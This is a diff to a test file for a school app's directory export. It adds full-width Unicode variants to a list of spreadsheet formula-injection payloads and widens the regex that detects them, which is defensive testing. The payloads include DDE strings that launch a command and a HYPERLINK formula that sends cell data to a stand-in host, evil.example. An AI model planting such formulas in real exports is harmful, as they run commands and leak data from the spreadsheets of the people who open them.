@@ -10,8 +10,10 @@ import { setUpSchool, startTestApp, type Session, type TestApp } from '../helper
  * with an apostrophe so the spreadsheet shows it as text, and changes nothing else.
  */
 
-const PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Click here")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0'];
-const TRIGGER = /^[=+\-@\t\r]/;
+const PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Click here")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  // Full-width forms, which spreadsheets in East Asian locales may read as the ASCII ones.
+  '＝HYPERLINK("http://evil.example/","x")', '＋1+1', '－1+1', '＠SUM(1+1)'];
+const TRIGGER = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
 
 for (const dialect of await dialects()) {
   describe(`directory export and formulas (${dialect})`, () => {
